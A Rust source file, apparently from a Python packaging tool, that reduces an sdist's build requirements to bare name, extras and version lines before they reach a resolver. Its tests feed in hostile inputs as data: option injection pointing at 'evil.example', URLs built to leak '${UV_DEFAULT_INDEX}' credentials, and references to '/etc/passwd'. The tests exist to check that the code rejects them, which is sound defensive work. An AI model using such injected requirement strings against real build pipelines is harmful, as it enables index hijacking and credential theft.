//! What an sdist requires → the lines that a resolver is given.
//!
//! The texts come from whoever wrote the sdist, and the resolver reads a file in which a line may be an option
//! (`--index-url`, `--no-binary`, which allows builds again) and a URL may name a variable (`${UV_DEFAULT_INDEX}`, with
//! the password in it). So each text has to be a requirement, and only its name, extras and versions are passed on.

use pip_accel_schema::interpreter::MarkerVariables;
use pip_accel_schema::requirement::{Reference, RequirementParts, excerpt};

use super::ResolveError;
use crate::python::requirement::Requirement;

/// The requirements that apply to an interpreter, one a line.
///
/// # Errors
/// When one is no requirement, or names a file or URL.
pub(super) fn lines(requirements: &[String], variables: &MarkerVariables) -> Result<Vec<String>, ResolveError> {
    let mut lines = Vec::with_capacity(requirements.len());
    for text in requirements {
        let requirement: Requirement = text.parse()?;
        let parts: RequirementParts = text.parse().map_err(crate::python::requirement::RequirementError::from)?;
        if !requirement.applies(variables, &[]) {
            continue;
        }
        let versions = match &parts.reference {
            Reference::Any => "",
            Reference::Specifier(specifier) => specifier.as_str(),
            Reference::Url(_) => return Err(ResolveError::Url { requirement: printable(text) }),
        };
        let extras = if parts.extras.is_empty() { String::new() } else { format!("[{}]", parts.extras.join(",")) };
        let versions: String = versions.split_whitespace().collect();
        lines.push(format!("{}{extras}{versions}", parts.name));
    }
    Ok(lines)
}

fn printable(text: &str) -> String {
    excerpt(&text.chars().map(|character| if character.is_control() { ' ' } else { character }).collect::<String>())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::python::testing::marker_variables;

    fn lines_of(texts: &[&str]) -> Result<Vec<String>, ResolveError> {
        let texts: Vec<String> = texts.iter().map(|text| (*text).to_owned()).collect();
        lines(&texts, &marker_variables("3.11"))
    }

    #[test]
    fn names_extras_and_versions_are_passed_on() {
        let texts = [
            "setuptools >= 40.8.0, != 50",
            "Cython[b, a] (==3.0)",
            "wheel",
            "tomli ; python_version < '3.11'",
            "numpy>=1 ; python_version >= '3.11'",
        ];
        let expected = ["setuptools>=40.8.0,!=50", "cython[a,b]==3.0", "wheel", "numpy>=1"];
        assert_eq!(lines_of(&texts).expect("requirements"), expected);
    }

    #[test]
    fn nothing_but_a_requirement_reaches_the_resolver() {
        for text in [
            "--index-url https://evil.example/",
            "-r /etc/passwd",
            "helper\n--no-binary helper",
            "helper==1\n--no-binary helper",
            "helper \\\n --no-binary helper",
            "helper --no-binary helper",
            "helper==1 --hash=sha256:00",
            "./local",
            "helper @ https://evil.example/${UV_DEFAULT_INDEX}/helper.whl",
            "helper @ https://evil.example/helper.whl",
            "helper @ file:///etc/passwd",
        ] {
            assert!(lines_of(&[text]).is_err(), "{text:?}");
        }
        // A line end in the right place is white space; what is passed on has none.
        assert_eq!(lines_of(&["helper\n>=\n1"]).expect("a requirement"), ["helper>=1"]);
        let message = lines_of(&["x @ https://u:p@h.example/x\u{1b}[31m"]).expect_err("a URL").to_string();
        assert!(!message.contains("u:p") && !message.contains('\u{1b}'), "{message}");
    }
}
